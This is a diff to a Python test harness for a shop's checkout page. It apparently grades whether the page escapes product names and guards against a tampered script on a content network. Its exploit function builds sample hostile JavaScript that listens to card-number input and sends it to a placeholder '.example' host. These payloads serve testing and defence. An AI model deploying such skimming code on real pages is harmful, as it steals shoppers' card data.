@@ -1,4 +1,5 @@
 import hashlib
+import html as markup
 import io
 import re
 import urllib.request
@@ -42,21 +43,34 @@ def load(headers, html, files):
     return run
 
 
-def order(code):
-    return code.Order("o-17", "EUR", [code.Line("Tea <green>", Decimal("12.5")), code.Line("Pot", Decimal(30))])
+def draw(code, vary):
+    """Another order each time, so that no page can be the one that a run has shown."""
+    title, tea, pot = vary.remark(), vary.number(100, 99_999), vary.number(100, 99_999)
+    lines = [code.Line(title, Decimal(tea) / 100), code.Line(vary.word(), Decimal(pot) / 100)]
+    return code.Order(f"o-{vary.text(6)}", "EUR", lines), title, f"{(tea + pot) / 100:.2f} EUR"
 
 
-def works(code):
+def shown(html):
+    """The text of the page, as the browser shows it."""
+    return markup.unescape(re.sub(r"<[^>]*>", " ", html)).replace(",", "")
+
+
+def works(code, vary):
     files = serve(GENUINE)
-    headers, html = code.render_checkout(order(code))
-    assert "Tea &lt;green&gt;" in html and "42.50 EUR" in html, "The products should be on the page with their brackets escaped, and with the sum."
+    order, title, total = draw(code, vary)
+    headers, html = code.render_checkout(order)
+    assert title.replace(",", "") in shown(html), f"The title of a product, {title}, should be on the page with its signs escaped."
+    assert total in shown(html), f"The sum, {total}, should be on the page."
+    assert f"/orders/{order.id}/payment" in html, "The form should pay the order that is shown."
     assert load(headers, html, files) == [GENUINE], "The browser should run the library that the shop has chosen."
 
 
-def exploit(code):
+def exploit(code, vary):
     """The file on the content network was replaced by one that also sends card numbers away."""
-    hostile = GENUINE + b";addEventListener('input', copyToEvil)"
-    files = serve(hostile)
-    is_run = hostile in load(*code.render_checkout(order(code)), files)
-    got = "the browser runs it on the page on which people type their card numbers"
-    return {"sent": f"another file on the content network: {hostile.decode()}", "got": got} if is_run else False
+    for more in vary.shuffle([f";addEventListener('input', {vary.word()})", f";copyTo('https://{vary.word()}.example')"]):
+        hostile = GENUINE + more.encode()
+        files = serve(hostile)
+        if hostile in load(*code.render_checkout(draw(code, vary)[0]), files):
+            got = "the browser runs it on the page on which people type their card numbers"
+            return {"sent": f"another file on the content network: {hostile.decode()}", "got": got}
+    return False
